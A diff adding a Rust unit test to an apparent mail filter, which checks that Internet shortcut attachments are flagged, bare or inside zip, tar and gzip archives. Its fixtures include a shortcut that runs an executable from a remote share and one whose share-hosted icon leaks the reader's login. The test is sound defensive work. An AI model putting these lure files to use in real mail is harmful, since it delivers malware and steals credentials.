@@ -300,3 +300,60 @@ fn an_html_page_that_saves_a_file_it_carries_is_flagged() {
     let report = b"<html><body><table><tr><td>Q3</td><td>1,204</td></tr></table></body></html>";
     assert!(symbols(&[part("report.html", "text/html", report)]).is_empty());
 }
+
+/// An Internet shortcut to a share runs a program the mail never carried (attachment
+/// probe: `invoice.url` holding `URL=file://host/share/invoice.exe` passed). It is flagged
+/// as an attachment, in a zip, a tar and a gzip; the shortcut a mail client made to share
+/// a web page (a 2002 ham of the corpus) is not.
+#[test]
+fn a_shortcut_that_opens_a_file_is_flagged() {
+    use super::tarballs::{gzip, tar_of};
+    use super::zipbuild::zip_of;
+    let hostile: &[u8] = b"[InternetShortcut]\r\nURL=file://203.0.113.7/share/invoice.exe\r\n\
+IconIndex=3\r\nIconFile=C:\\Windows\\System32\\shell32.dll\r\n";
+    for (name, ctype) in [
+        ("invoice.url", "application/octet-stream"),
+        ("INVOICE.URL. ", "application/octet-stream"),
+        ("invoice", "application/x-mswinurl"),
+        ("invoice.txt", "text/plain"),
+    ] {
+        assert_eq!(
+            symbols(&[part(name, ctype, hostile)]),
+            vec!["ATTACH_SHORTCUT_TO_FILE"],
+            "{name}"
+        );
+    }
+    let zipped = zip_of(&[("docs/invoice.url", hostile)]);
+    assert_eq!(
+        symbols(&[part("invoice.zip", "application/zip", &zipped)]),
+        vec!["ARCHIVE_SHORTCUT_TO_FILE"]
+    );
+    let tarred = tar_of(&[("invoice.url", hostile)]);
+    assert_eq!(
+        symbols(&[part("invoice.tar", "application/x-tar", &tarred)]),
+        vec!["ARCHIVE_SHORTCUT_TO_FILE"]
+    );
+    assert_eq!(
+        symbols(&[part("invoice.url.gz", "", &gzip(None, hostile))]),
+        vec!["ARCHIVE_SHORTCUT_TO_FILE"]
+    );
+    // The icon alone on a share leaks the reader's login when the folder is shown.
+    let icon: &[u8] =
+        b"[InternetShortcut]\r\nURL=https://example.test/\r\nIconFile=\\\\203.0.113.7\\i\\a.ico\r\n";
+    assert_eq!(
+        symbols(&[part("news.url", "application/octet-stream", icon)]),
+        vec!["ATTACH_SHORTCUT_TO_FILE"]
+    );
+    let shared_page: &[u8] =
+        b"[DEFAULT]\r\nBASEURL=http://www.english.upenn.edu/~afilreis/50s/schleslib.html\r\n\
+[InternetShortcut]\r\nURL=http://www.english.upenn.edu/~afilreis/50s/schleslib.html\r\n\
+Modified=E0824ED43364C201DE\r\n";
+    assert!(symbols(&[part(
+        "Liberalism in America.url",
+        "application/octet-stream",
+        shared_page
+    )])
+    .is_empty());
+    let zipped = zip_of(&[("Liberalism in America.url", shared_page)]);
+    assert!(symbols(&[part("links.zip", "application/zip", &zipped)]).is_empty());
+}
